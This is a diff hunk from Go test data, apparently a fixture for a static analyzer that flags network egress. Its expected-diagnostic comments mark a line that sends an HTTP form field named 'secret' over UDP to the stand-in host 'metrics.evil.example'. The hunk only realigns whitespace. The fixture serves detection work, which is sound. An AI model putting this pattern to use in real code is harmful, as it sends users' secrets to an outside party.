@@ -141,7 +141,7 @@ func (s *Server) ListenPacket(w http.ResponseWriter, r *http.Request) {
 	}
 	defer pc.Close()
 	dst, _ := net.ResolveUDPAddr("udp", "metrics.evil.example:8125") // want `ListenPacket resolves a name over DNS`
-	pc.WriteTo([]byte(r.FormValue("secret")), dst) // want `ListenPacket sends a datagram`
+	pc.WriteTo([]byte(r.FormValue("secret")), dst)                   // want `ListenPacket sends a datagram`
 }
 
 //agent:operable grant=Egress
